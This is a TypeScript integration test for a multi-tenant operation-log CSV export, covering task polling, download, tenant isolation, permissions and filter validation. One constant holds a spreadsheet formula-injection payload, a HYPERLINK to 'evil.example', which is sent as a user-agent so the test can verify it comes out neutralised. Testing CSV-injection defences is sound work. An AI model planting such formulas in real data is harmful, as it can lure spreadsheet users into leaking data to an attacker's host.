import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TaskFinishedEvent } from '../../src/modules/tasks/index.ts';
import { asyncTasks } from '../../src/modules/tasks/tables.ts';
import { realtimeEvents } from '../../src/platform/realtime/tables.ts';
import { call, createTestApp, type TestApp } from '../helpers/app.ts';
import { expectError, rowCount } from '../helpers/assert.ts';
import { createTenant, createUserWithPermissions, type TenantFixture } from '../helpers/fixtures.ts';
import { parseCsv, type TaskData, userIdOf, waitForTask } from './tasks-helpers.ts';

/** The operation-log export end to end: create → poll → download CSV; and who may see what. */
let t: TestApp;
let other: TenantFixture;
const events: TaskFinishedEvent[] = [];
const FORMULA_AGENT = '=HYPERLINK("http://evil.example/?x","click, me")';

beforeAll(async () => {
  t = await createTestApp();
  t.app.tasks.onTaskFinished((e) => {
    events.push(e);
  });
  other = await createTenant(t);
  // Operation-log rows in both tenants (failed writes are recorded too); one with a formula-like user agent.
  await call(t.app, 'POST', '/api/tasks/999999/cancel', {
    token: t.demoAdminToken,
    headers: { 'user-agent': FORMULA_AGENT },
  });
  await call(t.app, 'POST', '/api/tasks/999998/cancel', { token: t.demoAdminToken });
  await call(t.app, 'POST', '/api/tasks/999997/cancel', { token: other.adminToken });
  await t.app.system.operationLogsIdle();
});
afterAll(async () => t?.close());

async function startExport(token: string, body: Record<string, unknown> = {}) {
  const res = await call(t.app, 'POST', '/api/export-jobs/operation-logs', { token, body });
  expect(res.statusCode, res.body).toBe(201);
  return res.json().data as TaskData;
}

describe('operation-log export', () => {
  it('runs as a task, then the owner downloads the tenant’s log as safe CSV', async () => {
    const created = await startExport(t.demoAdminToken);
    expect(created).toMatchObject({ kind: 'export.operation_logs', status: 'queued', progress: 0 });
    expect(created.resultUrl).toBeNull();

    const done = await waitForTask(t, t.demoAdminToken, created.id);
    expect(done).toMatchObject({ status: 'succeeded', progress: 100, resultAvailable: true, error: null });
    // absolute: without PUBLIC_BASE_URL, the development address http://HOST:PORT
    expect(done.resultUrl).toBe(`http://127.0.0.1:3000/api/tasks/${created.id}/result`);
    const ttl = Date.parse(done.resultExpiresAt ?? '') - Date.parse(done.finishedAt ?? '');
    expect(ttl).toBe(7 * 24 * 3600_000);

    const file = await call(t.app, 'GET', `/api/tasks/${created.id}/result`, { token: t.demoAdminToken });
    expect(file.statusCode, file.body).toBe(200);
    expect(file.headers['content-type']).toMatch(/^text\/csv/);
    expect(file.headers['content-disposition']).toContain(`operation-logs-${created.id}.csv`);
    expect(file.body.startsWith('\uFEFF')).toBe(true);
    const [header, ...rows] = parseCsv(file.body.slice(1));
    expect(header).toEqual([
      'id',
      'createdAt',
      'userId',
      'username',
      'module',
      'operation',
      'method',
      'path',
      'statusCode',
      'errorKey',
      'ip',
      'userAgent',
      'durationMs',
      'requestId',
    ]);

    // exactly the tenant's log as the list shows it (rows recorded after the export started are not in it)
    const maxId = Math.max(...rows.map((r) => Number(r[0])));
    const listed = (await call(t.app, 'GET', '/api/operation-logs?pageSize=200', { token: t.demoAdminToken })).json()
      .data.list as Record<string, unknown>[];
    const expected = listed.filter((l) => Number(l.id) <= maxId);
    expect(rows.map((r) => Number(r[0]))).toEqual(expected.map((l) => l.id));
    for (const [i, l] of expected.entries()) {
      const r = rows[i] ?? [];
      expect(r[5]).toBe(l.operation);
      expect(r[7]).toBe(l.path);
      expect(Number(r[8])).toBe(l.statusCode);
      expect(r[1]).toBe(l.createdAt);
    }
    // nothing of the other tenant
    expect(rows.some((r) => r[7] === '/api/tasks/999997/cancel')).toBe(false);
    expect(rows.some((r) => r[7] === '/api/tasks/999998/cancel')).toBe(true);
    // the formula is neutralised (and still one cell despite its comma and quotes)
    const injected = rows.find((r) => r[7] === '/api/tasks/999999/cancel');
    expect(injected?.[11]).toBe(`'${FORMULA_AGENT}`);

    // the completion event (notification center) and the owner's realtime push
    const event = events.find((e) => e.taskId === created.id);
    expect(event).toMatchObject({
      event: 'platform.export.finished',
      status: 'succeeded',
      kind: 'export.operation_logs',
      tenantId: t.demoTenantId,
    });
    const ownerId = await userIdOf(t, t.demoAdminToken);
    expect(event?.ownerUserId).toBe(ownerId);
    const pushes = await t.database.db
      .select()
      .from(realtimeEvents)
      .where(and(eq(realtimeEvents.topic, 'task.finished'), eq(realtimeEvents.tenantId, t.demoTenantId)));
    const push = pushes.find((p) => (p.payload as { taskId: number }).taskId === created.id);
    expect(push?.userIds).toEqual([ownerId]);
    expect(push?.payload).toMatchObject({
      status: 'succeeded',
      event: 'platform.export.finished',
      resultUrl: `http://127.0.0.1:3000/api/tasks/${created.id}/result`,
    });

    // my tasks, filtered
    const mine = await call(t.app, 'GET', '/api/tasks?status=succeeded&kind=export.operation_logs', {
      token: t.demoAdminToken,
    });
    expect(mine.json().data.list.map((x: TaskData) => x.id)).toContain(created.id);
    const none = await call(t.app, 'GET', '/api/tasks?status=failed', { token: t.demoAdminToken });
    expect(none.json().data.list.map((x: TaskData) => x.id)).not.toContain(created.id);

    // The result is a restricted file: not readable through the general file routes, even by
    // its owner or a colleague holding file permissions; only through the task.
    const [row] = await t.database.db.select().from(asyncTasks).where(eq(asyncTasks.id, created.id));
    const colleague = await createUserWithPermissions(t, ['system:file:list']);
    for (const token of [t.demoAdminToken, colleague.token]) {
      expect((await call(t.app, 'GET', `/api/files/${row?.resultFileId}/content`, { token })).statusCode).toBe(404);
      expect((await call(t.app, 'GET', `/api/files/${row?.resultFileId}`, { token })).statusCode).toBe(404);
    }
  });

  it('applies the list’s filters', async () => {
    const created = await startExport(t.demoAdminToken, { operation: 'tasks.task.cancel', statusCode: 404 });
    await waitForTask(t, t.demoAdminToken, created.id);
    const file = await call(t.app, 'GET', `/api/tasks/${created.id}/result`, { token: t.demoAdminToken });
    const [, ...rows] = parseCsv(file.body.slice(1));
    expect(rows.length).toBe(2);
    for (const r of rows) expect([r[5], r[8]]).toEqual(['tasks.task.cancel', '404']);
  });

  it('shows a task only to its owner: another user or tenant gets 404', async () => {
    const created = await startExport(t.demoAdminToken);
    await waitForTask(t, t.demoAdminToken, created.id);
    const colleague = await createUserWithPermissions(t, ['monitor:operation-log:list']);
    for (const token of [colleague.token, other.adminToken]) {
      expectError(await call(t.app, 'GET', `/api/tasks/${created.id}`, { token }), 404, 'tasks.task_not_found');
      expectError(await call(t.app, 'GET', `/api/tasks/${created.id}/result`, { token }), 404, 'tasks.task_not_found');
      expectError(await call(t.app, 'POST', `/api/tasks/${created.id}/cancel`, { token }), 404, 'tasks.task_not_found');
      const list = await call(t.app, 'GET', '/api/tasks', { token });
      expect(list.json().data.list.map((x: TaskData) => x.id)).not.toContain(created.id);
    }
    // a super administrator acting inside the tenant is not the owner either
    expectError(
      await call(t.app, 'GET', `/api/tasks/${created.id}`, { token: t.adminToken, tenantId: t.demoTenantId }),
      404,
      'tasks.task_not_found',
    );
    // a finished task cannot be cancelled
    expectError(
      await call(t.app, 'POST', `/api/tasks/${created.id}/cancel`, { token: t.demoAdminToken }),
      409,
      'tasks.task_finished',
    );
  });

  it('needs monitor:operation-log:list to export (403, nothing written)', async () => {
    const before = await rowCount(t, asyncTasks);
    const user = await createUserWithPermissions(t, []);
    expectError(
      await call(t.app, 'POST', '/api/export-jobs/operation-logs', { token: user.token, body: {} }),
      403,
      'auth.permission_denied',
    );
    expect(await rowCount(t, asyncTasks)).toBe(before);
  });

  it('refuses bad filters with 400 naming the field (nothing written)', async () => {
    const before = await rowCount(t, asyncTasks);
    const post = (body: unknown) =>
      call(t.app, 'POST', '/api/export-jobs/operation-logs', { token: t.demoAdminToken, body });
    expectError(await post({ statusCode: 42 }), 400, 'request.validation_failed', 'statusCode');
    expectError(await post({ from: 'yesterday' }), 400, 'request.validation_failed', 'from');
    expectError(await post({ userId: 0 }), 400, 'request.validation_failed', 'userId');
    expectError(await post({ colour: 'red' }), 400, 'request.validation_failed', 'colour');
    expectError(
      await call(t.app, 'GET', '/api/tasks?status=done', { token: t.demoAdminToken }),
      400,
      'request.validation_failed',
      'status',
    );
    expect(await rowCount(t, asyncTasks)).toBe(before);
  });

  it('answers 404 for an unknown task and for a result that is not there', async () => {
    expectError(
      await call(t.app, 'GET', '/api/tasks/987654', { token: t.demoAdminToken }),
      404,
      'tasks.task_not_found',
    );
    expect((await call(t.app, 'GET', '/api/tasks', {})).statusCode).toBe(401);
  });
});
